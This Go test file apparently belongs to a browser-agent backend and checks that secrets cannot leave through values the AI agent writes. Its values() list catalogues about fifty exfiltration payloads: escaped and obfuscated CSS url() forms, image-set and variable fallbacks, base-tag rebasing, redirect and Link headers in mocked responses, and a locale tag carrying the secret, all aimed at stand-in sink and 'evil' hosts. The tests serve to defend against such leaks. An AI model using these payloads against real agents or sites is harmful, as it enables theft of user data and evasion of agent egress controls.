package leaving

import (
	"context"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"pilotfish/backend/command"
	"pilotfish/backend/protocol"
)

// value is a way in which an agent on its own site may write an address into a value, so
// that the page sends what the agent knows to that address. It does no harm to write it:
// what counts is that nothing arrives unasked.
type value struct {
	name string
	// style has an element, properties and values, in this order; set one after the other.
	style []string
	// mock has the arguments of `network mock`.
	mock map[string]any
	// line is any other command.
	line string
	// then runs in the page afterwards.
	then string
}

// inLocale is a part of what the agent knows, in the form that a locale may have.
const inLocale = "sk4f9a8b"

// valuesPage is a page of the agent's own site that uses values in many ways.
const valuesPage = `<style>#v { width: 10px; height: 10px; background-image: image-set(var(--picture) 1x) }
	#u { width: 10px; height: 10px; background-image: var(--whole) }</style>
	<p id=p>Text</p><p id=v></p><p id=u></p><ul><li id=l>Item</li></ul><svg><rect id=r width=9 height=9 /></svg><img id=i width=9 height=9>`

// values are the ways. LEAK is the address of another site with what the agent knows.
func values() []value {
	const p = "#p"
	of := func(name, element, property, css string) value {
		return value{name: name, style: []string{element, property, css}}
	}
	picture := map[string]any{"what": "*/picture", "type": "image"}
	with := func(more map[string]any) map[string]any {
		for name, one := range picture {
			if more[name] == nil {
				more[name] = one
			}
		}
		return more
	}
	const load = `const i = document.createElement('img'); document.body.append(i); i.src = '/picture'`
	const avatar = `fetch('/profile').then((r) => r.json()).then((p) => { document.querySelector('#i').src = p.avatar })`
	return []value{
		of("background image", p, "background-image", "url(LEAK)"),
		of("background", p, "background", "red url('LEAK') no-repeat"),
		of("upper case", p, "background-image", `URL("LEAK")`),
		of("important", p, "background-image", "url(LEAK) !important"),
		of("escaped name", p, "background-image", `u\72l(LEAK)`),
		of("escaped name by numbers", p, "background-image", `\75\000072 \6c("LEAK")`),
		of("escaped scheme", p, "background-image", `url(\68 ttp\3a//SINK/leak?q={secret})`),
		of("escaped slashes", p, "background-image", `url("http:\2f\2fSINK/leak?q={secret}")`),
		of("line end in a string", p, "background-image", "url(\"ht\\\ntp://SINK/leak?q={secret}\")"),
		of("comments", p, "background-image", `/* ( */url( "LEAK" /* ) */)`),
		of("white space", p, "background-image", "url(\n\t LEAK\n)"),
		of("without scheme", p, "background-image", "url(//SINK/leak?q={secret})"),
		of("backslashes", p, "background-image", `url("\\\\SINK\\leak?q={secret}")`),
		of("one slash", p, "background-image", `url("https:/\\SINK/leak?q={secret}")`),
		of("user of an address", p, "background-image", `url("http://HOME@SINK/leak?q={secret}")`),
		of("name of an address", p, "background-image", `url("http://{secret}.SELF/leak")`),
		of("path of an address", p, "background-image", `url("http://SINK/leak/{secret}")`),
		of("image set of strings", p, "background-image", `image-set("LEAK" 1x)`),
		of("image set with a prefix", p, "background-image", `-webkit-image-set(url(LEAK) 1x)`),
		of("cross fade", p, "background-image", `-webkit-cross-fade(url(LEAK), linear-gradient(red, blue), 50%)`),
		of("second of two", p, "background-image", `linear-gradient(red, blue), url(LEAK)`),
		of("fallback of a variable", p, "background-image", `var(--none, url(LEAK))`),
		of("fallback of the environment", p, "background-image", `env(none, url(LEAK))`),
		of("fallback in an image set", p, "background-image", `image-set(var(--none, "LEAK") 1x)`),
		of("list style", "#l", "list-style-image", "url(LEAK)"),
		of("border image", p, "border-image-source", "url(LEAK)"),
		of("mask", p, "mask-image", "url(LEAK)"),
		of("mask with a prefix", p, "-webkit-mask-image", "url(LEAK)"),
		of("cursor", p, "cursor", "url(LEAK), auto"),
		of("content", p, "content", "url(LEAK)"),
		of("content with a text", p, "content", `url(LEAK) / "alternative"`),
		of("filter", p, "filter", "url(LEAK#f)"),
		of("backdrop", p, "backdrop-filter", "url(LEAK#f)"),
		of("clip path", p, "clip-path", "url(LEAK#c)"),
		of("shape", "#i", "shape-outside", "url(LEAK)"),
		of("fill of a drawing", "#r", "fill", "url(LEAK#f)"),
		{name: "variable", style: []string{p, "--x", "url(LEAK)", p, "background-image", "var(--x)"}},
		of("variable of the page", "#u", "--whole", "url(LEAK)"),
		of("string for the page", "#v", "--picture", `"LEAK"`),
		of("escaped string for the page", "#v", "--picture", `"\68 ttp:\/\/SINK/leak?q={secret}"`),
		of("string without scheme for the page", "#v", "--picture", `'//SINK/leak?q={secret}'`),
		of("page as data", p, "background-image", `url("data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='LEAK'/></svg>")`),
		{name: "relative to another base", then: `document.head.append(Object.assign(document.createElement('base'), { href: 'http://SINK/' }))`, style: []string{p, "background-image", "url(leak?q={secret})"}},
		{name: "location of a mocked picture", mock: with(map[string]any{"status": 302, "headers": []string{"Location: LEAK"}}), then: load},
		{name: "link of a mocked picture", mock: with(map[string]any{"body": "[]", "headers": []string{"Link: <LEAK>; rel=preload; as=image", "Content-Type: image/png"}}), then: load},
		{name: "refresh of a mocked picture", mock: with(map[string]any{"body": "[]", "headers": []string{"Refresh: 0; url=LEAK"}}), then: load},
		{name: "link of mocked data", mock: map[string]any{"what": "*/profile", "body": "{}", "headers": []string{"Link: <LEAK>; rel=prefetch, <http://{secret}.SELF/>; rel=preconnect"}}, then: avatar},
		{name: "address in mocked data", mock: map[string]any{"what": "*/profile", "body": `{"avatar": "LEAK"}`}, then: avatar},
		{name: "escaped address in mocked data", mock: map[string]any{"what": "*/profile", "body": `{"avatar": "\u0068ttp:\/\/SINK\/leak?q={secret}"}`}, then: avatar},
		{name: "address without scheme in mocked data", mock: map[string]any{"what": "*/profile", "body": `{"avatar": "//SINK/leak?q={secret}"}`}, then: avatar},
		{name: "mocked drawing", mock: with(map[string]any{"body": `<svg xmlns="http://www.w3.org/2000/svg"><image href="LEAK"/></svg>`, "headers": []string{"Content-Type: image/svg+xml"}}), then: load},
		{name: "locale", line: "emulate --locale en-US-x-" + inLocale, then: `fetch('http://SINK/seen', { mode: 'no-cors' })`},
	}
}

// TestNothingLeavesInValues: an address inside a value that an agent writes is judged as
// one that it opens, also on the site on which it began.
func TestNothingLeavesInValues(t *testing.T) {
	s := theStand(t)
	fill := strings.NewReplacer("LEAK", "http://"+s.host("sink")+"/leak?q="+secret, "HOME", s.host("home"), "SELF", s.host("evil"), "SINK", s.host("sink"), "{secret}", secret)
	for i, one := range values() {
		for _, kind := range kinds(i) {
			t.Run(string(kind)+"/"+one.name, func(t *testing.T) {
				a := s.begin(t, kind, "value "+one.name)
				if _, err := s.browser.Navigate(t.Context(), protocol.Caller{}, a.tab, "http://"+s.host("home")+"/values", protocol.WaitLoad, nil); err != nil {
					t.Fatal(err)
				}
				if one.style != nil {
					a.inPage(one.then)
				}
				for rest := one.style; len(rest) > 0; rest = rest[3:] {
					a.command("style", map[string]any{"element": rest[0], "property": rest[1], "value": fill.Replace(rest[2])})
				}
				if one.mock != nil {
					filled, err := json.Marshal(one.mock)
					if err != nil {
						t.Fatal(err)
					}
					// Within JSON the replaced texts need no escapes.
					args := map[string]any{}
					if err := json.Unmarshal([]byte(fill.Replace(string(filled))), &args); err != nil {
						t.Fatal(err)
					}
					args["do"] = "mock"
					a.command("network", args)
				}
				if one.line != "" {
					a.run(one.line)
				}
				if one.style == nil {
					a.inPage(fill.Replace(one.then))
				}
				// What the values ask for is requested before this.
				a.inPage(`document.body.offsetWidth; for (let i = 0; i < 3; i++) await new Promise((done) => setTimeout(done));
					await fetch(location.origin + '/seen'); await new Promise((done) => { const i = new Image(); i.onload = i.onerror = done; i.src = 'http://` + s.host("sink") + `/seen' })`)
				s.asked(t, false)
				if leaks := s.take(); len(leaks) > 0 {
					t.Errorf("this arrived: %q", leaks)
				}
			})
		}
	}
}

// inPage runs a script in the agent's tab as the user.
func (a *agent) inPage(script string) {
	a.t.Helper()
	if script == "" {
		return
	}
	script = strings.ReplaceAll(script, "SINK", a.host("sink"))
	if _, err := a.browser.Evaluate(a.t.Context(), protocol.Caller{}, a.tab, "(async () => {"+script+"})()"); err != nil {
		a.t.Fatal(err)
	}
}

// command runs a command with these arguments.
func (a *agent) command(name string, args map[string]any) {
	a.t.Helper()
	request := protocol.CommandRequest{Command: name, Args: map[string]json.RawMessage{}}
	for arg, one := range args {
		raw, err := json.Marshal(one)
		if err != nil {
			a.t.Fatal(err)
		}
		request.Args[arg] = raw
	}
	ctx, cancel := context.WithTimeout(a.t.Context(), 3*time.Minute)
	defer cancel()
	a.registry.Execute(ctx, command.Call{Actor: a.actor, Scopes: []protocol.Scope{protocol.ScopeRead, protocol.ScopeAct}, Tab: a.tab, Request: request})
}
